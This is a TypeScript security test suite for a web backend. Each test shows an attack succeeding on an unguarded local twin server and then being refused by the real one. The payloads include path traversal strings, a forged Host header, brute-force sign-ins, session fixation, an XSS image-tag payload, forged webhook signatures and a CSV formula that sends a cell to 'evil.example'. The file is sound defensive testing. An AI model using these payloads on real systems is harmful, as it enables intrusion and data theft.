import { createHmac } from 'node:crypto'
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { stringify } from 'csv-stringify/sync'
import fastify, { type FastifyInstance } from 'fastify'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { CONSOLE_PATHS } from '#contract/console/routes.ts'
import { csvRows } from './http/csv.ts'
import { failurePage } from './http/failure-page.ts'
import { TEST_PASSWORD, type TestBff, startTestBff } from './test-bff.ts'
import { WEBHOOK_SECRET } from './test-stack.ts'

// Each attack first succeeds on a server that lacks the guard, which proves that the test really attacks.
// The attacks by requests of other sites are in http/same-origin.spec.ts.

const SECRET = 'outside of the folder'
const JSON_BODY = { 'content-type': 'application/json' }

let dataDir: string
let bff: TestBff
beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'patio-attacks-'))
  await mkdir(join(dataDir, 'dist'))
  await writeFile(join(dataDir, 'dist', 'index.html'), '<!doctype html><title>Pátio</title>')
  await writeFile(join(dataDir, 'secret.txt'), SECRET)
  bff = await startTestBff({ config: { dataDir } })
})
afterAll(async () => {
  await bff.close()
  await rm(dataDir, { recursive: true })
})

const twins: FastifyInstance[] = []
afterEach(async () => {
  await Promise.all(twins.splice(0).map((twin) => twin.close()))
})

/** Starts a server without the guard. @returns its origin */
async function twin(build: (app: FastifyInstance) => void, bodyLimit?: number): Promise<string> {
  const app = fastify(bodyLimit === undefined ? {} : { bodyLimit })
  twins.push(app)
  build(app)
  return app.listen({ host: '127.0.0.1', port: 0 })
}

/** The answer to a request whose path and host no client library has normalised. */
async function raw(origin: string, path: string, host = '127.0.0.1'): Promise<string> {
  const socket = connect(Number(new URL(origin).port), '127.0.0.1')
  socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
  return text(socket)
}

const signIn = (origin: string, email: string, password: string, headers: Record<string, string> = {}) =>
  fetch(`${origin}${CONSOLE_PATHS.signIn}`, {
    method: 'POST',
    headers: { ...JSON_BODY, ...headers },
    body: JSON.stringify({ email, password }),
  })

describe('a name that was re-pointed at this machine', () => {
  const read = async (origin: string) => (await raw(origin, '/metrics', 'evil.example')).slice(9, 12)

  test('reads what only this machine may read, if the host name is not checked', async () => {
    expect(await read(await twin((app) => app.get('/metrics', () => 'patio_open_purchases 3')))).toBe('200')
  })
  test('is refused under that name', async () => {
    expect(await read(bff.url)).toBe('421')
  })
})

describe('a path that climbs out of the folder', () => {
  const paths = ['/../secret.txt', '/..%2fsecret.txt', '/%2e%2e/secret.txt', '/assets/..%2f..%2fsecret.txt']

  test('reads a file outside the folder, if the path is joined unchecked', async () => {
    const origin = await twin((app) =>
      app.get('/*', async ({ url }) => readFile(join(dataDir, 'dist', decodeURIComponent(url)), 'utf8')),
    )
    for (const path of paths) expect(await raw(origin, path)).toContain(SECRET)
  })
  test('reads nothing', async () => {
    for (const path of paths) expect(await raw(bff.url, path)).not.toContain(SECRET)
  })
})

describe('a body of megabytes', () => {
  const send = async (origin: string) => (await signIn(origin, 'x'.repeat(3_000_000), 'a password')).status

  test('is read completely, if nothing limits it', async () => {
    let read = 0
    const origin = await twin((app) => {
      app.post(CONSOLE_PATHS.signIn, ({ body }) => {
        read = JSON.stringify(body).length
        return {}
      })
    }, 1e9)
    expect(await send(origin)).toBe(200)
    expect(read).toBeGreaterThan(3_000_000)
  })
  test('is refused', async () => {
    expect(await send(bff.url)).toBe(413)
  })
})

describe('a password that is tried out', () => {
  /** The status of a sign-in with the right password after many wrong guesses. */
  const guess = async (origin: string, email: string) => {
    for (let wrong = 0; wrong < 12; wrong += 1) await signIn(origin, email, `wrong number ${wrong}`)
    return (await signIn(origin, email, TEST_PASSWORD)).status
  }

  test('is found, if guesses are not counted', async () => {
    const origin = await twin((app) =>
      app.post<{ Body: { password: string } }>(CONSOLE_PATHS.signIn, ({ body }, reply) =>
        reply.code(body.password === TEST_PASSWORD ? 200 : 401).send(),
      ),
    )
    expect(await guess(origin, 'ana@loja.example')).toBe(200)
  })
  test('is refused after too many guesses, although it is right', async () => {
    expect(await guess(bff.url, await bff.addPerson('buyer'))).toBe(429)
  })
})

describe('a session that the attacker chose', () => {
  const planted = `patio=${'B'.repeat(43)}`
  /** Whether the attacker is signed in once the victim is. */
  const taken = async (origin: string, email: string) => {
    await signIn(origin, email, TEST_PASSWORD, { cookie: planted })
    const answer = await fetch(`${origin}${CONSOLE_PATHS.session}`, { headers: { cookie: planted } })
    return ((await answer.json()) as { person: unknown }).person !== null
  }

  test('is signed in with the victim, if a sign-in keeps the cookie', async () => {
    const signedIn = new Set<string>()
    const origin = await twin((app) => {
      app.post(CONSOLE_PATHS.signIn, ({ headers }) => {
        signedIn.add(headers.cookie ?? '')
        return {}
      })
      app.get(CONSOLE_PATHS.session, ({ headers }) => ({
        person: signedIn.has(headers.cookie ?? '') ? 'victim' : null,
      }))
    })
    expect(await taken(origin, 'ana@loja.example')).toBe(true)
  })
  test('stays signed out', async () => {
    expect(await taken(bff.url, await bff.addPerson('buyer'))).toBe(false)
  })
})

describe('a script in the words of the service', () => {
  const message = '<img src=x onerror="alert(1)">'
  const error = { code: 'X', message, retryable: false, requestId: message, charged: 'no' } as const

  test('becomes an element of a page that inserts the words unescaped', () => {
    const page = (of: typeof error) => `<p>${of.message}</p>`
    expect(page(error)).toContain('<img')
  })
  test('is text', () => {
    expect(failurePage({ error, purchase: undefined })).not.toMatch(/<img|onerror="/)
  })
})

describe('a formula in a name', () => {
  const name = '=HYPERLINK("https://evil.example/?"&A1)'

  test('stays a formula in a table that writes its cells unescaped', () => {
    expect(stringify([[name]])).toMatch(/^"?=/)
  })
  test('is text', () => {
    expect(csvRows([[name]])).not.toMatch(/^\uFEFF?"?=/m)
  })
})

describe('a delivery that somebody made up', () => {
  const body = JSON.stringify({
    id: 'e1',
    type: 'webhook.test',
    created_at: new Date().toISOString(),
    data: {},
  })
  const deliver = async (origin: string, secret: string) => {
    const at = Math.floor(Date.now() / 1000)
    const mac = createHmac('sha256', secret).update(`${at}.${body}`).digest('hex')
    const headers = { ...JSON_BODY, 'x-svc-signature': `t=${at},v1=${mac}` }
    return (await fetch(`${origin}${CONSOLE_PATHS.webhook}`, { method: 'POST', headers, body })).ok
  }

  test('is accepted, if the signature is not checked', async () => {
    expect(await deliver(await twin((app) => app.post(CONSOLE_PATHS.webhook, () => ({}))), 'mine')).toBe(true)
  })
  test('is refused, unlike a delivery of the service', async () => {
    expect(await deliver(bff.url, 'mine')).toBe(false)
    expect(await deliver(bff.url, WEBHOOK_SECRET)).toBe(true)
  })
})
